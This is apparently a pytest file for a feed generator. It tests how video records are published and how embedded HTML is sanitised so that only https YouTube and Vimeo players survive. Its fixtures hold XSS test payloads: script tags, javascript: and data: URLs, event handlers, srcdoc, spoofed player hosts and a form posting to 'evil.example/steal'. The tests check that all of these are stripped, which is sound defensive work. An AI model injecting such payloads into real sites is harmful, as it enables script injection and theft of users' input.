"""Videos and other link-only records: originalUrl as the link, featuredContent
sanitised (iframes from video hosts only), a plain link for readers without iframes."""

from __future__ import annotations

import json
import re

import feedparser
import pytest
from feedchecks import html_parts
from helpers import build, check_tree_valid, record_text, shared_path, tree, write_record

WATCH = "https://youtube.com/watch?v=ct63jmbbpiI"
EMBED = "https://www.youtube.com/embed/ct63jmbbpiI"
THUMB = "https://i.ytimg.com/vi/ct63jmbbpiI/hqdefault.jpg"
PLAYER = (f'<iframe width="800" height="500" frameborder="0" src="{EMBED}" '
          'allow="accelerometer; autoplay; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe>')
HOSTILE = "".join([
    "<script>alert('script')</script>",
    '<iframe src="javascript:alert(\'js-src\')"></iframe>',
    f'<iframe src="{EMBED}?x" onload="alert(\'onload\')" srcdoc="<script>alert(\'srcdoc\')</script>"></iframe>',
    '<iframe src="https://evil.example/player"></iframe>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+"></iframe>',
    '<iframe src="http://www.youtube.com/embed/plain-http"></iframe>',
    '<img src="x" onerror="alert(\'onerror\')"><a href="javascript:alert(\'href\')">click</a>',
    "<form action='https://evil.example/steal'><input name=q></form><style>body{display:none}</style>",
    '<p onclick="alert(\'onclick\')">A player follows.</p>',
    # inside a kept iframe: raw text to the sanitiser's parser, which writes it back as is
    f'<iframe src="{EMBED}?inner"><script>alert(\'inside\')</script><img src=x onerror=alert(\'inner\')></iframe>',
])


def video_record(featured: str, extra: str = "") -> str:
    lines = [
        "---", 'title: "Diablo 4 Big Announcement"', f'originalUrl: "{WATCH}"',
        "publishedDateTime: 2023-04-20T19:11:48Z",
        "type: video", f"featuredContent: {json.dumps(featured)}", "provider:", "  name: Asmongold Clips",
        "  domain: youtube.com", "topics:", "  - Diablo 4", "images:", f'  - url: "{THUMB}"', "    width: 480",
        "    height: 360", extra, "---", "",
    ]
    return "\n".join(line for line in lines if line)


@pytest.fixture(scope="module")
def video_tree(tmp_path_factory):
    root = tmp_path_factory.mktemp("video")
    records = root / "records"
    write_record(records, "video.md", video_record(PLAYER))
    out = root / "out"
    assert build(out, "--records", str(records), "--strict") == 0
    return out


def test_video_entry_has_link_thumbnail_player_and_text_link(video_tree, atom_schema, json_feed_validator):
    check_tree_valid(video_tree, atom_schema, json_feed_validator)
    files = tree(video_tree)
    item = json.loads(files["feeds/all.json"])["items"][0]
    assert item["id"] == item["url"] == WATCH and "external_url" not in item  # originalUrl is the link itself
    assert item["image"] == THUMB
    assert item["tags"] == ["Diablo 4", "video"] and item["_frfeeds"] == {"type": "video"}
    html = html_parts(item["content_html"])
    assert html.tags[:4] == ["p", "img", "iframe", "p"]  # lead image, then the player, then its plain link
    assert html.urls[:3] == [THUMB, EMBED, WATCH]  # the plain link goes to the watch page, not the bare player
    assert "Watch the video on youtube.com" in "".join(html.text)
    assert re.search(r'<iframe [^>]*src="https://www\.youtube\.com/embed/ct63jmbbpiI"[^>]*allowfullscreen',
                     item["content_html"])

    entry = feedparser.parse(files["feeds/all.atom"]).entries[0]
    assert entry.id == entry.link == WATCH
    assert entry.media_thumbnail[0]["url"] == THUMB
    assert ("video", "video") in [(tag.term, tag.label) for tag in entry.tags]
    assert EMBED in files["feeds/all.atom"].decode() and "Watch the video" in entry.content[0].value
    item = feedparser.parse(files["feeds/all.rss"]).entries[0]
    assert item.link == item.id == WATCH and "video" in [tag.term for tag in item.tags]


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    records = root / "records"
    path = write_record(records, "video.md", video_record(PLAYER + HOSTILE))
    write_record(records, "nothing-safe.md", video_record(
        "<script>alert('only')</script><iframe src='https://evil.example/x'></iframe>",
    ).replace(WATCH, WATCH + "2"))
    out = root / "out"
    import subprocess
    import sys
    result = subprocess.run([sys.executable, "-m", "frfeeds.cli", "build", str(out), "--records", str(records)],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return out, path, result


def test_hostile_featured_content_never_reaches_the_output(hostile_build, atom_schema, json_feed_validator):
    out, _, _ = hostile_build
    check_tree_valid(out, atom_schema, json_feed_validator)
    files = tree(out)
    # the pages' own query form aside (once per page), nothing of a form anywhere
    own_form = re.compile(rb'<form class="query" method="get" action="[a-z0-9./-]+\.html">.*?</form>', re.S)
    joined = b"\n".join(own_form.sub(b"", data, count=1) if path.endswith(".html") else data
                         for path, data in files.items())
    for bad in (b"alert", b"javascript", b"onload", b"onerror", b"onclick", b"srcdoc", b"data:", b"evil.example",
                b"plain-http", b"<script", b"&lt;script", b"<form", b"&lt;form", b"<input", b"&lt;input",
                b"display:none"):
        assert bad not in joined, bad
    # what is safe stays: the player, and the paragraph without its handler
    item = json.loads(tree(out)["feeds/all.json"])["items"]
    by_id = {entry["id"]: entry for entry in item}
    assert EMBED in by_id[WATCH]["content_html"] and "<p>A player follows.</p>" in by_id[WATCH]["content_html"]
    assert "<iframe" not in by_id[WATCH + "2"]["content_html"]  # nothing safe: the story stays, without it


def test_left_out_players_are_reported(hostile_build):
    _, path, result = hostile_build
    lines = result.stderr.splitlines()
    assert (f"{path}: featuredContent: iframe from evil.example left out "
            "(only https players of YouTube and Vimeo are embedded)") in lines
    assert any(line.startswith(f"{path}: featuredContent: iframe from http://www.youtube.com/embed/plain-http")
               for line in lines)
    assert any(line.endswith("nothing-safe.md: featuredContent: has nothing that can be shown safely; left out")
               for line in lines)


@pytest.mark.parametrize("src", [
    "https://www.youtube-nocookie.com/embed/abc", "https://youtube.com/embed/abc", "https://m.youtube.com/embed/abc",
    "https://player.vimeo.com/video/123",
])
def test_video_hosts_are_embedded(src):
    from frfeeds.clean import clean_html

    html, embeds, refused = clean_html(f'<iframe src="{src}" width="640"></iframe>')
    assert embeds == (src,) and refused == () and f'src="{src}"' in html


@pytest.mark.parametrize("src", [
    "https://vimeo.com.evil.example/video/1", "https://evil.example/?https://www.youtube.com/", "http://player.vimeo.com/video/1",
    "//www.youtube.com/embed/abc", "https://user@www.youtube.com.evil.example/",
])
def test_other_iframes_are_not(src):
    from frfeeds.clean import clean_html

    html, embeds, _ = clean_html(f'<p>x</p><iframe src="{src}"></iframe>')
    assert embeds == () and "<iframe" not in html


def test_a_record_with_nothing_to_link_to_is_rejected(tmp_path, capsys):
    records = tmp_path / "records"
    path = write_record(records, "nolink.md", video_record(PLAYER).replace(f'originalUrl: "{WATCH}"\n', ""))
    write_record(records, "badlink.md", video_record(PLAYER).replace(WATCH, "javascript:alert(1)"))
    write_record(records, "ok.md", record_text())
    assert build(tmp_path / "out", "--records", str(records)) == 0
    err = capsys.readouterr().err
    assert f"{path}: webUrl: is missing, and there is no originalUrl to link to instead" in err
    assert "badlink.md: originalUrl: must be an absolute http(s) URL" in err


def test_a_web_url_stays_the_link_and_original_url_is_via(tmp_path):
    records = tmp_path / "records"
    write_record(records, "a.md", record_text(url="https://example.com/story", extra=f'originalUrl: "{WATCH}"'))
    out = tmp_path / "out"
    assert build(out, "--records", str(records)) == 0
    files = tree(out)
    item = json.loads(files["feeds/all.json"])["items"][0]
    assert item["id"] == "https://example.com/story" and item["external_url"] == WATCH
    assert f'(first published at <a href="{WATCH}">youtube.com</a>)' in item["content_html"]
    entry = feedparser.parse(files["feeds/all.atom"]).entries[0]
    assert ("via", WATCH) in {(link.rel, link.href) for link in entry.links}


def test_real_video_record_is_published(tmp_path):
    record = shared_path("corpus", "records", "SmartableAI--2023-04-20-diablo-4-big-announcement.md")
    records = tmp_path / "records"
    write_record(records, record.name, record.read_bytes())
    out = tmp_path / "out"
    assert build(out, "--records", str(records)) == 0
    item = json.loads(tree(out)["feeds/all.json"])["items"][0]
    assert item["id"] == "https://youtube.com/watch?v=ct63jmbbpiI"
    assert 'src="https://www.youtube.com/embed/ct63jmbbpiI"' in item["content_html"]
